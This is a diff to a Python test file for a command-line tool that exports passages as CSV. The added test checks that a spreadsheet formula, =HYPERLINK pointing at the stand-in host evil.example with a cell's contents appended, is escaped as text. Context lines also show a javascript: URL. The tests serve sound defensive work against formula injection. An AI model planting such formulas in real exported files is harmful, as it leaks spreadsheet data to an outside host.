@@ -120,3 +120,13 @@ def test_bad_source_names_the_file(tmp_path):
     result = run("passages", "--sources", str(tmp_path))
     assert result.exit_code == 1
     assert result.output.startswith(f"Error: {tmp_path / 'a.md'}: url 'javascript:alert(1)'")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
+    (tmp_path / "a.md").write_text(
+        '---\ntitle: T\n---\n=HYPERLINK("http://evil.example/?"&A1,"Kunashir")\n', encoding="utf-8"
+    )
+    result = run("passages", "--sources", str(tmp_path), "--format", "csv")
+    assert result.exit_code == 0
+    assert "'=HYPERLINK(" in result.stdout
+    assert "\n=HYPERLINK" not in result.stdout and ",=HYPERLINK" not in result.stdout
